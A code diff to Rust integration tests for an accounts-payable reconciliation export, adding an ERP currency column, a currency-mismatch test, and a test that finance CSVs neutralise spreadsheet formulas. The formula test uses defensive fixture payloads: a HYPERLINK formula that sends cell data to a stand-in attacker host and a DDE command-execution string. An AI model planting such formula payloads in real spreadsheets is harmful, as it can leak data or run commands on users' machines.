@@ -18,7 +18,7 @@ use crate::util::{cmd, cmd_async, text, Harness};
 const LEDGER_MAPPING: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/mappings/ap_ledger.csv.toml");
 const SAMPLE_LEDGER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/ap_ledger.csv");
 
-const HEADER: &str = "Status,Invoice Number,Currency,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP),Due Date,Days Past Due,Aging Bucket,Invoice Date,AHEAD Status,Closed in AHEAD On,PO Number,Vendor,ERP Ledger Line,Note";
+const HEADER: &str = "Status,Invoice Number,Currency,ERP Currency,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP),Due Date,Days Past Due,Aging Bucket,Invoice Date,AHEAD Status,Closed in AHEAD On,PO Number,Vendor,ERP Ledger Line,Note";
 
 /// The sample ledger against a mirror that was never pulled: both lines are missing in AHEAD.
 /// Aged as of 2026-11-30: INV-900001 due 10-15 is 46 days late, INV-900002 due 10-31 is 30.
@@ -42,8 +42,8 @@ fn the_sample_ledger_by_hand() {
     let csv = String::from_utf8(out.stdout.clone()).unwrap();
     let want = format!(
         "{HEADER}
-missing_in_ahead,INV-900001,USD,,12480.00,,2026-10-15,46,31-60,2026-09-15,,,,AHEAD,2,
-missing_in_ahead,INV-900002,USD,,2310.75,,2026-10-31,30,1-30,2026-10-01,,,,AHEAD,3,
+missing_in_ahead,INV-900001,USD,USD,,12480.00,,2026-10-15,46,31-60,2026-09-15,,,,AHEAD,2,
+missing_in_ahead,INV-900002,USD,USD,,2310.75,,2026-10-31,30,1-30,2026-10-01,,,,AHEAD,3,
 
 Totals by status,Currency,Invoices,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP)
 missing_in_ahead,USD,2,,14790.75,
@@ -353,6 +353,356 @@ async fn month_end_against_the_sandbox() {
     );
 }
 
+/// A ledger line in EUR for an invoice AHEAD bills in USD (as of the day the invoices were
+/// raised):
+///
+/// | invoice | AHEAD | ERP ledger | expected |
+/// |---|---|---|---|
+/// | A: 1 x 1249.50, due 10 days ago | open 1249.50 | 1,249.50 USD | matched, 1-30 |
+/// | B: 3 x 79.95 = 239.85, due 12 days ago | open 239.85 | 239.85 EUR | currency_mismatch, 1-30: USD and EUR on the row, no difference, in no money total |
+/// | C: 1 x 289.00, due 40 days ago | open 289.00 | 300.00 USD | amount_mismatch -11.00, 31-60 |
+///
+/// Only matched lines carry an ERP balance in USD, so the `1-30` USD bucket's ERP balance is
+/// A's alone: B's 239.85 is euros.
+#[tokio::test]
+async fn a_ledger_line_in_another_currency_is_in_no_total() {
+    let h = Harness::new().await;
+    let config = h.write_config("");
+    let config = config.to_str().unwrap();
+    let (a, today) = invoice(&h, "SRV-1U-X10", 1, -10);
+    let (b, _) = invoice(&h, "RAIL-KIT-1U", 3, -12);
+    let (c, _) = invoice(&h, "NIC-25G-2P", 1, -40);
+    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let ledger = h.dir.path().join("ap_open.csv");
+    std::fs::write(
+        &ledger,
+        format!(
+            "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n\
+             {a},AHEAD,{today},{today},\"1,249.50\",0.00,\"1,249.50\",USD\n\
+             {b},AHEAD,{today},{today},239.85,0.00,239.85,eur\n\
+             {c},AHEAD,{today},{today},300.00,0.00,300.00,USD\n"
+        ),
+    )
+    .unwrap();
+    let as_of = today.to_string();
+    let run = |extra: &[&str]| {
+        let mut args = vec![
+            "--config",
+            config,
+            "export",
+            "reconciliation",
+            "--ledger",
+            ledger.to_str().unwrap(),
+            "--ledger-mapping",
+            LEDGER_MAPPING,
+            "--as-of",
+            &as_of,
+        ];
+        args.extend_from_slice(extra);
+        let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
+        let dir = h.dir.path().to_path_buf();
+        async move {
+            let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+            cmd_async(&dir, &refs).await
+        }
+    };
+
+    let out = run(&[]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let csv = String::from_utf8(out.stdout.clone()).unwrap();
+    assert!(csv.starts_with(HEADER), "{csv}");
+    // Its own status, listed right after amount_mismatch.
+    let statuses: Vec<&str> = csv
+        .lines()
+        .skip(1)
+        .take_while(|l| !l.is_empty())
+        .map(|l| l.split(',').next().unwrap())
+        .collect();
+    assert_eq!(
+        statuses[..3],
+        ["amount_mismatch", "currency_mismatch", "missing_in_erp"],
+        "{csv}"
+    );
+    let rows = detail(&csv);
+    let row = |status: &str, number: &str| {
+        rows.get(&(status.to_string(), number.to_string()))
+            .unwrap_or_else(|| panic!("no {status} row for {number} in\n{csv}"))
+    };
+    let cells = |r: &HashMap<String, String>| -> Vec<String> {
+        [
+            "Currency",
+            "ERP Currency",
+            "AHEAD Balance Due",
+            "ERP Open Balance",
+            "Difference (AHEAD - ERP)",
+            "Days Past Due",
+            "Aging Bucket",
+        ]
+        .iter()
+        .map(|n| r[*n].clone())
+        .collect()
+    };
+    let mismatch = row("currency_mismatch", &b);
+    assert_eq!(
+        cells(mismatch),
+        ["USD", "EUR", "239.85", "239.85", "", "12", "1-30"]
+    );
+    assert!(
+        mismatch["Note"].contains("AHEAD USD, ERP EUR"),
+        "{mismatch:?}"
+    );
+    assert_eq!(
+        cells(row("matched", &a)),
+        ["USD", "USD", "1249.50", "1249.50", "0.00", "10", "1-30"]
+    );
+    assert_eq!(
+        cells(row("amount_mismatch", &c)),
+        ["USD", "USD", "289.00", "300.00", "-11.00", "40", "31-60"]
+    );
+
+    // Counted under its own status and the pair of currencies, with no money; in no aging total.
+    let by_status = totals(&csv, "Totals by status");
+    let key = |g: &str, c: &str| (g.to_string(), c.to_string());
+    assert_eq!(
+        by_status[&key("currency_mismatch", "USD/EUR")],
+        ["1", "", "", ""]
+    );
+    assert_eq!(
+        by_status[&key("matched", "USD")],
+        ["1", "1249.50", "1249.50", "0.00"]
+    );
+    assert_eq!(
+        by_status[&key("amount_mismatch", "USD")],
+        ["1", "289.00", "300.00", "-11.00"]
+    );
+    for (group, currency) in by_status.keys() {
+        assert!(
+            group != "currency_mismatch" || currency == "USD/EUR",
+            "{group} {currency}: {csv}"
+        );
+    }
+    let by_aging = totals(&csv, "Totals by aging");
+    let bucket = &by_aging[&key("1-30", "USD")];
+    assert_eq!(bucket[2..], ["1249.50", "0.00"], "{csv}");
+    let aged_1_30 = rows
+        .values()
+        .filter(|r| r["Aging Bucket"] == "1-30" && r["Currency"] == "USD")
+        .filter(|r| r["Status"] != "currency_mismatch")
+        .count();
+    assert_eq!(bucket[0], aged_1_30.to_string(), "{csv}");
+    assert!(
+        by_aging.keys().all(|(_, currency)| currency == "USD"),
+        "{csv}"
+    );
+
+    // JSON lines say the same.
+    let out = run(&["--format", "json"]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let detail_b = lines
+        .iter()
+        .find(|l| l["section"] == "detail" && l["invoice_number"] == b.as_str())
+        .unwrap();
+    assert_eq!(detail_b["status"], "currency_mismatch");
+    assert_eq!(detail_b["currency"], "USD");
+    assert_eq!(detail_b["erp_currency"], "EUR");
+    assert_eq!(detail_b["ahead_balance"], "239.85");
+    assert_eq!(detail_b["erp_balance"], "239.85");
+    assert!(detail_b["difference"].is_null(), "{detail_b}");
+    let total: Vec<&serde_json::Value> = lines
+        .iter()
+        .filter(|l| l["section"] == "totals_by_status" && l["status"] == "currency_mismatch")
+        .collect();
+    assert_eq!(total.len(), 1, "{total:?}");
+    assert_eq!(total[0]["currency"], "USD/EUR");
+    assert_eq!(total[0]["count"], 1);
+    for k in ["ahead_balance", "erp_balance", "difference"] {
+        assert!(total[0][k].is_null(), "{}", total[0]);
+    }
+    let aging: Vec<&serde_json::Value> = lines
+        .iter()
+        .filter(|l| l["section"] == "totals_by_aging" && l["aging"] == "1-30")
+        .collect();
+    assert_eq!(aging.len(), 1, "{aging:?}");
+    assert_eq!(aging[0]["erp_balance"], "1249.50");
+
+    // And the workbook.
+    let out = run(&["--format", "xlsx", "--out", "recon.xlsx"]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let mut book: Xlsx<_> = calamine::open_workbook(h.dir.path().join("recon.xlsx")).unwrap();
+    let sheet = book.worksheet_range("Reconciliation").unwrap();
+    let row = sheet
+        .rows()
+        .find(|r| r[1] == Data::String(b.clone()))
+        .expect("the currency mismatch row");
+    assert_eq!(row[0], Data::String("currency_mismatch".into()));
+    assert_eq!(row[2], Data::String("USD".into()));
+    assert_eq!(row[3], Data::String("EUR".into()));
+    assert_eq!(row[6], Data::Empty);
+    let sheet = book.worksheet_range("Totals").unwrap();
+    let cells: Vec<Vec<String>> = sheet
+        .rows()
+        .map(|r| r.iter().map(|c| c.to_string()).collect())
+        .collect();
+    let found: Vec<&Vec<String>> = cells
+        .iter()
+        .filter(|r| r[0] == "currency_mismatch")
+        .collect();
+    assert_eq!(found.len(), 1, "{cells:?}");
+    assert_eq!(found[0][1..], ["USD/EUR", "1", "", "", ""]);
+    let bucket = cells
+        .iter()
+        .find(|r| r[0] == "1-30" && r[1] == "USD")
+        .unwrap();
+    assert_eq!(bucket[4..], ["1249.5", "0"]);
+}
+
+/// Text a spreadsheet would run as a formula, from both sides: a PO number AHEAD holds, a
+/// vendor and an invoice number in the ledger. The CSV reports, which people open in a
+/// spreadsheet, neutralise them (a `'` in front); numbers stay as they are, negative ones
+/// included (a credit note of -12.50, days past due of -5). JSON stays exact; xlsx holds them
+/// as text, never as formulas.
+#[tokio::test]
+async fn formula_text_is_neutralised_in_the_finance_csv() {
+    const PO: &str = "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"open\")";
+    const VENDOR: &str = "=cmd|' /C calc'!A0";
+    let h = Harness::new().await;
+    let config = h.write_config("");
+    let config = config.to_str().unwrap();
+    let doc = h
+        .sandbox
+        .control()
+        .create_invoice(&NewInvoice {
+            purchase_order_number: Some(PO.into()),
+            fulfillment_order_number: None,
+            lines: vec![("SRV-1U-X10".into(), 1)],
+            due_days: Some(5),
+        })
+        .unwrap();
+    let a = doc["invoice_number"].as_str().unwrap().to_string();
+    let today = doc["invoice_date"].as_str().unwrap().to_string();
+    let due = doc["due_date"].as_str().unwrap().to_string();
+    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let ledger = h.dir.path().join("ap_open.csv");
+    std::fs::write(
+        &ledger,
+        format!(
+            "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n\
+             {a},\"{VENDOR}\",{today},{due},\"1,249.50\",0.00,\"1,249.50\",USD\n\
+             +CN-7,@SUM(1+1),{today},{due},-12.50,0.00,-12.50,USD\n"
+        ),
+    )
+    .unwrap();
+    let report = |format: &str, out_file: Option<&str>| {
+        let mut args = vec![
+            "--config".to_string(),
+            config.to_string(),
+            "export".into(),
+            "reconciliation".into(),
+            "--ledger".into(),
+            ledger.to_str().unwrap().into(),
+            "--ledger-mapping".into(),
+            LEDGER_MAPPING.into(),
+            "--as-of".into(),
+            today.clone(),
+            "--format".into(),
+            format.into(),
+        ];
+        if let Some(f) = out_file {
+            args.extend(["--out".to_string(), f.to_string()]);
+        }
+        let dir = h.dir.path().to_path_buf();
+        async move {
+            let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+            cmd_async(&dir, &refs).await
+        }
+    };
+
+    let out = report("csv", None).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let rows = detail(&csv);
+    let matched = &rows[&("matched".to_string(), a.clone())];
+    assert_eq!(matched["PO Number"], format!("'{PO}"));
+    assert_eq!(matched["Vendor"], format!("'{VENDOR}"));
+    assert_eq!(matched["Days Past Due"], "-5");
+    assert_eq!(matched["AHEAD Balance Due"], "1249.50");
+    let credit = rows
+        .get(&("missing_in_ahead".to_string(), "'+CN-7".to_string()))
+        .unwrap_or_else(|| panic!("no neutralised +CN-7 in\n{csv}"));
+    assert_eq!(credit["Vendor"], "'@SUM(1+1)");
+    assert_eq!(credit["ERP Open Balance"], "-12.50");
+    assert_eq!(credit["Days Past Due"], "-5");
+    let by_status = totals(&csv, "Totals by status");
+    assert_eq!(
+        by_status[&("missing_in_ahead".to_string(), "USD".to_string())],
+        ["1", "", "-12.50", ""]
+    );
+
+    // JSON lines are for programs: exact.
+    let out = report("json", None).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let line: serde_json::Value = stdout
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .find(|l| l["section"] == "detail" && l["invoice_number"] == a.as_str())
+        .unwrap();
+    assert_eq!(line["purchase_order_number"], PO);
+    assert_eq!(line["vendor"], VENDOR);
+    assert!(stdout.contains("\"invoice_number\":\"+CN-7\""), "{stdout}");
+
+    // xlsx: the text as it is, stored as text; no cell holds a formula.
+    let out = report("xlsx", Some("recon.xlsx")).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let mut book: Xlsx<_> = calamine::open_workbook(h.dir.path().join("recon.xlsx")).unwrap();
+    let sheet = book.worksheet_range("Reconciliation").unwrap();
+    let row = sheet
+        .rows()
+        .find(|r| r[1] == Data::String(a.clone()))
+        .expect("the matched row");
+    assert!(row.contains(&Data::String(PO.into())), "{row:?}");
+    assert!(row.contains(&Data::String(VENDOR.into())), "{row:?}");
+    for name in ["Reconciliation", "Totals"] {
+        let formulas = book.worksheet_formula(name).unwrap();
+        assert_eq!(formulas.used_cells().count(), 0, "{name}: {formulas:?}");
+    }
+
+    // The aging view is for people too.
+    let out = cmd_async(
+        h.dir.path(),
+        &[
+            "--config",
+            config,
+            "export",
+            "invoices",
+            "--outstanding",
+            "--as-of",
+            &today,
+        ],
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let table = csv.split("\n\n").next().unwrap();
+    let mut reader = csv::Reader::from_reader(table.as_bytes());
+    let row = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[0] == *a)
+        .unwrap_or_else(|| panic!("no {a} in\n{csv}"));
+    assert_eq!(
+        [&row[1], &row[5], &row[10]],
+        [format!("'{PO}").as_str(), "-5", "1249.50"]
+    );
+}
+
 fn check_workbook(path: &Path, mismatch: &str) {
     let mut book: Xlsx<_> = calamine::open_workbook(path).expect("the xlsx opens");
     assert_eq!(book.sheet_names(), ["Reconciliation", "Totals"]);
@@ -370,11 +720,11 @@ fn check_workbook(path: &Path, mismatch: &str) {
         .find(|r| r[1] == Data::String(mismatch.to_string()))
         .expect("the mismatch row");
     assert_eq!(row[0], Data::String("amount_mismatch".into()));
-    assert_eq!(row[3], Data::Float(139.85));
-    assert_eq!(row[4], Data::Float(239.85));
-    assert_eq!(row[5], Data::Float(-100.0));
-    assert!(matches!(row[6], Data::DateTime(_)), "{:?}", row[6]);
-    assert_eq!(row[7], Data::Float(45.0));
+    assert_eq!(row[4], Data::Float(139.85));
+    assert_eq!(row[5], Data::Float(239.85));
+    assert_eq!(row[6], Data::Float(-100.0));
+    assert!(matches!(row[7], Data::DateTime(_)), "{:?}", row[7]);
+    assert_eq!(row[8], Data::Float(45.0));
     let totals = book.worksheet_range("Totals").unwrap();
     let cells: Vec<Vec<String>> = totals
         .rows()
